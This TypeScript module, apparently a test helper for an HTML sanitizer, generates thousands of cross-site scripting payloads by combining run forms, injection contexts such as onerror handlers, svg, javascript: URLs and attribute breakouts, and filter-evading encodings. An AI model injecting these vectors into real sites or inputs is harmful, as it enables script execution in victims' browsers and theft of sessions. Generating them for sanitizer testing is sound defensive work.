/** Its name alone, so that none is taken for one of our own. */
const form = "form";

/** What is run, written so that those who look for words do not find it. */
function runsOf(call: string): string[] {
  const name = call.slice(0, call.indexOf("("));
  const given = call.slice(name.length);
  return [
    call,
    `top.${call}`,
    `window['${name.slice(0, 4)}'+'${name.slice(4)}']${given}`,
    `eval(atob('${btoa(call)}'))`,
    Array.from(call, (letter) => `&#${letter.charCodeAt(0)};`).join(""),
    Array.from(call, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`).join(""),
    `setTimeout('${call}')`,
    `${name}\`${given.slice(1, -1)}\``,
  ];
}

/** Where it stands: a script, an event of an element, an address, what a text may break out of. */
const places: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<script/x>${run}</script\n>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src="x" onerror="${run}" alt="a">`,
  (run) => `<img/src/onerror=${run}>`,
  (run) => `<img src=x\tonerror\n=\n"${run}"//`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"></svg>`,
  (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></table>`,
  (run) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<a href="java\nscript:${run}">x</a>`,
  (run) => `<a href=" &#14; javascript:${run}">x</a>`,
  (run) => `<a href="data:text/html,<script>${run}</script>">x</a>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}>`,
  (run) => `<p contenteditable autofocus onfocus=${run}>x</p>`,
  (run) => `<body onload=${run}>`,
  (run) => `<marquee onstart=${run}>x</marquee>`,
  (run) => `<x style="animation:spin 1s" onanimationstart=${run}>x</x>`,
  (run) => `<div style="background:url(javascript:${run})">x</div>`,
  (run) => `<style>@import 'javascript:${run}';</style>`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<${form} action="javascript:${run}"><button autofocus>x</button></${form}>`,
  (run) => `<button formaction="javascript:${run}">x</button>`,
  (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  (run) => `<link rel=stylesheet href="javascript:${run}">`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<p style="mso-list:l0 level1"><img src=x onerror=${run}>1. x</p>`,
  (run) => `<b id="docs-internal-guid-1"><img src=x onerror=${run}></b>`,
  (run) => `<table><tr><td><img src=x onerror=${run}></td></tr></table>`,
  (run) => `<bdi data-mention="1" onclick=${run} onpointerover=${run}>@x</bdi>`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `'><img src=x onerror=${run}>`,
  (run) => `" autofocus onfocus="${run}" x="`,
  (run) => `' onmouseover='${run}' x='`,
  (run) => `'-${run}-'`,
  (run) => `";${run};//`,
  (run) => `\\";${run};//`,
  (run) => `\${${run}}`,
  (run) => `</script><script>${run}</script>`,
  (run) => `</textarea></title></style><img src=x onerror=${run}>`,
  (run) => `--><img src=x onerror=${run}><!--`,
  (run) => `]]><img src=x onerror=${run}>`,
  (run) => `}</style><img src=x onerror=${run}>`,
  (run) => `javascript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `{{constructor.constructor('${run}')()}}`,
];

/** How it is written: as it is, loudly, in pieces, among other words, and as it comes out of what decodes once more. */
const writings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w+)/g, (_all, tag: string) => `<${tag.toUpperCase()}`),
  (text) => text.replaceAll("=", " = "),
  (text) => `<p>Dear ${text}</p>`,
  (text) => `<!--[if gte mso 9]>-->${text}<!--<![endif]-->`,
  (text) => text.replaceAll("<", "<\u0000"),
  (text) => text.replace("javascript:", "jAvAsCrIpT&colon;"),
  (text) => `<ul><li>${text}<ol><li>${text}</li></ol></li></ul>`,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => `\u202e${text}\u202c`,
  (text) => `Ünal 🎉 ${text} مرحبا`,
];

/** How many there are, counting those twice that a writing leaves as they are. */
export const scriptVectorCount = writings.length * places.length * runsOf("x()").length;

/** Has no factor in common with how many there are, so that none comes twice before all have come. */
const stride = 4297;

/**
 * Ways that a script is smuggled into a text, made from their parts: what is run, where it stands,
 * how it is written. Of fewer than all, each place and each writing is among them.
 *
 * @param call what shows that it ran, or that of each by its number
 */
export function scriptVectors(
  count: number,
  call: string | ((number: number) => string),
): string[] {
  const made = new Set<string>();
  for (let number = 0; made.size < count && number < scriptVectorCount; number += 1) {
    const at = (number * stride) % scriptVectorCount;
    const place = places[at % places.length];
    const turn = Math.floor(at / places.length);
    const write = writings[turn % writings.length];
    const runs = runsOf(typeof call === "string" ? call : call(made.size));
    const run = runs[Math.floor(turn / writings.length) % runs.length] ?? "";
    if (write && place) made.add(write(place(run)));
  }
  return [...made];
}
